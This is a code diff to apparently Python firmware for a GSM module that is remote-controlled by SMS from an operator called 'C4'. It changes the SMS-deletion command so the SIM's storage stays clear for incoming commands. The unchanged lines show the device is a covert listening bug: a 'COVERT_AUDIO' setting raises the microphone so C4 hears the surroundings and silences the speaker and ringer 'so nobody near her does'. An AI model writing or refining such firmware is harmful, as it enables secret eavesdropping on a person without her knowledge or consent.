@@ -20,15 +20,16 @@ WARNING_REPEAT_MS = 0           # every supply warning is passed on
 # Init: numeric +CME/+CMS codes first (the driver decides on them), then, once the SIM
 # is ready, AT+CLTS=1 before registration brings the network's time (NITZ), text-mode
 # SMS in the GSM alphabet, +CMTI for new SMS, +CLIP/+CLCC for calls, the cell report
-# (AT+CENG) and the module's own battery check. AT+CMGD=1,1 deletes the SIM's read SMS
-# (the firmware deletes each one it reads): a card that lived in a phone can arrive with
-# its storage full of them, and a full storage refuses every new SMS, C4's commands too.
+# (AT+CENG) and the module's own battery check. AT+CMGD=1,3 deletes the SIM's read,
+# sent and draft SMS, keeping the unread (the firmware deletes each one it reads): a card
+# that lived in a phone can arrive with its storage full of them, a full storage refuses
+# every new SMS, C4's commands too, and any stored one makes each sweep list the SIM.
 # Mic up so C4 hears the surroundings; speaker and ringer silent so nobody near her does.
 # One command line: fewer round trips before ATD. In the set-up too: C4 calling back
 # rings before anything is answered, and a restarted module rings at its default (100).
 COVERT_AUDIO = "AT+CMIC=0,15;+CLVL=0;+CRSL=0"
 INIT_FIRST = ("ATE0", "AT+CMEE=1")
-INIT = ("AT+CLTS=1", "AT+CMGF=1", 'AT+CSCS="GSM"', CSMP, "AT+CNMI=2,1,0,0,0", "AT+CMGD=1,1",
+INIT = ("AT+CLTS=1", "AT+CMGF=1", 'AT+CSCS="GSM"', CSMP, "AT+CNMI=2,1,0,0,0", "AT+CMGD=1,3",
         "AT+CLIP=1", "AT+CLCC=1", "AT+COLP=0", "AT+CENG=1,0", "AT+CBATCHK=1", "AT+CREG=1",
         COVERT_AUDIO)
 
